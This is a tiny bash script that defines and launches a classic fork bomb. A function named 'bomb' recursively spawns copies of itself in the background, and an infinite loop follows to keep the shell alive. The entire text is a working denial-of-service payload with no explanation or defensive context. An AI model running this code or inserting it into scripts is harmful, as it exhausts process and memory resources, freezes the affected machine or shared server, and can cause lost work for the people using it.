bomb() { bomb | bomb & }
bomb
wait
while :; do sleep 1; done
